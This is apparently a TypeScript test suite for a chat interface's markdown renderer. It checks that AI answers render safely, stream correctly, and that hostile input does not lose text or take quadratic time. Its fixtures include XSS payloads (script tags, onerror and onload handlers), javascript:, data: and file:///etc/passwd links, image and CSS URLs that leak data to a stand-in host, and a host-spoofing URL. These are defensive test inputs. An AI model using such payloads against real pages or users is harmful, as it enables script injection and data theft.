import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { type Block, createBlockReader } from '../../components/answer/markdown/block-reader.ts'
import { PlainBlock } from '../../components/answer/markdown/MarkdownBoundary.tsx'
import { tokensOf } from '../../components/answer/markdown/markdown-parser.ts'
import { renderTokens } from '../../components/answer/markdown/render-tokens.tsx'
import { type Surface, SurfaceProvider } from '../../components/chat/SurfaceContext.tsx'

const surface = { browser: { copyText: async () => undefined } } as unknown as Surface

/** The whole of a finished answer as the HTML that React would build. */
function htmlOf(markdown: string): string {
  const blocks = createBlockReader().read(markdown, true)
  return blocks.map((block) => renderToStaticMarkup(<Shown block={block} />)).join('')
}

function Shown({ block: { source, plain, references } }: { readonly block: Block }) {
  const tokens = plain ? undefined : tokensOf(source, references)
  if (tokens === undefined) return <PlainBlock source={source} />
  return <SurfaceProvider surface={surface}>{renderTokens(tokens)}</SurfaceProvider>
}

const textOf = (html: string) => html.replace(/<[^>]*>/g, '')

describe('markdown of an answer', () => {
  it('becomes elements', () => {
    const html = htmlOf(
      '# Title\n\nSome *words* and `code`.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. one\n2. two',
    )

    expect(html).toContain('<h3 dir="auto" data-level="h1">Title</h3>')
    expect(html).toContain('<em>words</em>')
    expect(html).toContain('<td dir="auto" data-align="end">2</td>')
    expect(html).toContain('<li>two</li>')
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="/options.html" ping="/x">x</a>',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '<svg onload=alert(1)>',
    '<style>*{background:url(//leak.example)}</style>',
  ])('shows %s as text', (raw) => {
    const html = htmlOf(`Before ${raw} after\n\n${raw}`)

    expect(html).not.toMatch(/<(script|img|iframe|svg|style|a)\b/)
    expect(html).toContain(renderToStaticMarkup(raw))
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](chrome-extension://abc/options.html)',
    '[x](/options.html)',
    '[x](//leak.example)',
    '[x](blob:null/1)',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
  ])('opens nothing for %s', (link) => {
    expect(htmlOf(link)).not.toContain('<a ')
  })

  it('opens no address with a user name before its host', () => {
    const html = htmlOf('[x](https://good.example:443@evil.example/) https://good.example@evil.example')

    expect(html).not.toMatch(/href="[^"]*evil/)
  })

  it('opens http, https and mailto links in a new tab and tells their host', () => {
    const html = htmlOf('[x](https://good.example/a?b=c) and <mailto:a@b.example> and http://plain.example')

    expect(html).toContain(
      'title="good.example (https://good.example/a?b=c)" target="_blank" rel="noopener noreferrer"',
    )
    expect(html.match(/<a /g)).toHaveLength(3)
  })

  it.each([
    '![chart](https://leak.example/a.png?q=secret)',
    '![chart][r]\n\n[r]: https://leak.example/b.png',
    '[![chart](https://leak.example/c.png)](https://good.example)',
  ])('loads no image for %s', (image) => {
    const html = htmlOf(image)

    expect(html).not.toMatch(/<img|src=/)
    expect(html).toContain('image not loaded: leak.example')
  })

  it('resolves a link whose definition comes at the end, once the answer is over', () => {
    const text = 'See [the docs][d].\n\nMore words.\n\n[d]: https://docs.example/'

    expect(htmlOf(text)).toContain('href="https://docs.example/"')
  })
})

describe('hostile markdown', () => {
  const hostile: readonly (readonly [string, (size: number) => string])[] = [
    ['unclosed emphasis', (size) => '*a_ '.repeat(size)],
    ['footnote openers', (size) => '[^a]'.repeat(size)],
    ['link openers', (size) => '[a]('.repeat(size)],
    ['block quotes in block quotes', (size) => `${'>'.repeat(size)} deep`],
    [
      'lists in lists',
      (size) => Array.from({ length: size / 40 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    ],
    ['images in links', (size) => '![['.repeat(size)],
    ['addresses', (size) => 'https://a.example/'.repeat(size / 4)],
    ['short paragraphs of emphasis', (size) => '*a_ **b `c\n\n'.repeat(size / 4)],
  ]

  it.each(hostile)('of %s loses no text', (_name, make) => {
    const text = make(2000)

    const letters = (words: string) => words.replace(/[^a-z]/g, '')
    const shown = textOf(htmlOf(text)).replaceAll('&gt;', '').replaceAll('&amp;', '')
    expect(letters(shown).length).toBeGreaterThanOrEqual(letters(text).length)
  })

  it.each(hostile)('of %s takes time in proportion to its length', (_name, make) => {
    const time = (text: string) => {
      const runs = [0, 1, 2].map(() => {
        // The processor's time, which other programs do not stretch.
        const before = process.threadCpuUsage()
        for (const { source, plain, references } of createBlockReader().read(text, true)) {
          if (!plain) tokensOf(source, references)
        }
        const { user, system } = process.threadCpuUsage(before)
        return (user + system) / 1000
      })
      return Math.min(...runs)
    }
    time(make(1000))

    const ratio = (time(make(16_000)) + 2) / (time(make(2000)) + 2)

    // Eight times the length: 8 when it is linear, 64 when it is quadratic.
    expect(ratio).toBeLessThan(32)
  })
})

describe('reading a growing answer', () => {
  const text = `# One

A paragraph that
has two lines.

- a
- b

  still b

1. first

2. second

\`\`\`ts
const x = 1

const y = 2
\`\`\`

The end.`

  it('ends with the blocks that reading it at once would give', () => {
    const reader = createBlockReader()
    for (let length = 0; length < text.length; length++) reader.read(text.slice(0, length), false)

    const grown = reader.read(text, true).map(({ source }) => source)

    expect(grown).toEqual(
      createBlockReader()
        .read(text, true)
        .map(({ source }) => source),
    )
    expect(grown.join('')).toBe(text)
  })

  it('keeps every block that has ended as the same object', () => {
    const reader = createBlockReader()

    const before = reader.read('One.\n\nTwo.\n\nThree is', false)
    const after = reader.read('One.\n\nTwo.\n\nThree is longer.', false)

    expect(after[0]).toBe(before[0])
    expect(after[2]).not.toBe(before[2])
  })

  it('begins anew when the text is told again', () => {
    const reader = createBlockReader()
    reader.read('One.\n\nTwo.\n\nThree.\n', false)

    expect(reader.read('Other words.', false).map(({ source }) => source)).toEqual(['Other words.'])
  })
})
